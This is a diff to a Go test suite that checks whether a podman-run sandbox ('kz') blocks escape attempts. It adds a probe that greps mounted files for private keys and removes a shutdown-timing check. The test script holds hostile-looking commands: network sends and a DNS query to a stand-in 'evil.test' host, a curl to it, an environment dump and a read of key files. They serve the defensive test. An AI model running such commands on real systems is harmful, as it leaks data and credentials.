@@ -6,7 +6,6 @@ import (
 	"slices"
 	"strings"
 	"testing"
-	"time"
 
 	"kz/test/bed"
 )
@@ -68,9 +67,9 @@ func tryEngineCompose(t *testing.T, e *engine, b *bed.Bed, world *outer) {
 ` + python + ` -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("` + outerAddress + `", 53))' && echo OUT
 ` + python + ` -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(bytes.fromhex("000101000001000000000000056c65616b73046576696c0474657374000001 0001"), ("172.30.250.1", 53)); s.recv(512)' && echo OUT
 ` + curl + `-f https://evil.test/ && echo OUT
-grep -E 'CapEff|NoNewPrivs' /proc/self/status; for f in ca.pem client.env new; do echo x >/kz/$f && echo WRITTEN; done; env`)
+grep -E 'CapEff|NoNewPrivs' /proc/self/status; for f in ca.pem client.env new; do echo x >/kz/$f && echo WRITTEN; done; env; cat /kz/* | grep -a 'PRIVATE KEY'`)
 		out := string(res.Stdout)
-		if strings.Contains(out, "OUT\n") || strings.Contains(out, "WRITTEN") || !strings.Contains(out, "CapEff:\t0000000000000000\nNoNewPrivs:\t1\n") || !mask.MatchString(out) {
+		if strings.Contains(out, "OUT\n") || strings.Contains(out, "WRITTEN") || strings.Contains(out, "PRIVATE KEY") || !strings.Contains(out, "CapEff:\t0000000000000000\nNoNewPrivs:\t1\n") || !mask.MatchString(out) {
 			t.Errorf("%s", res.Output())
 		}
 		if reached := world.reachedBy(); len(reached) > 0 || len(b.Origin.Requests()) != 1 {
@@ -87,10 +86,9 @@ grep -E 'CapEff|NoNewPrivs' /proc/self/status; for f in ca.pem client.env new; d
 	})
 	t.Run("a kz that was stopped ends well, and is started again with the CA that it had", func(t *testing.T) {
 		before := e.podman("exec", "long", "cat", "/kz/ca.pem")
-		began := time.Now()
 		e.podman("stop", "--time="+strings.TrimSuffix(c.Services["kz"].StopGracePeriod, "s"), "kz")
-		if code := e.podman("inspect", "--format", "{{.State.ExitCode}}", "kz"); code != "0" || time.Since(began) > 10*time.Second {
-			t.Errorf("it ends with %s after %s", code, time.Since(began))
+		if code := e.podman("inspect", "--format", "{{.State.ExitCode}}", "kz"); code != "0" { // 137 when its time is over
+			t.Errorf("it ends with %s", code)
 		}
 		if res := e.try("podman", "healthcheck", "run", "kz"); res.Code == 0 {
 			t.Error("it is healthy when it does not run")
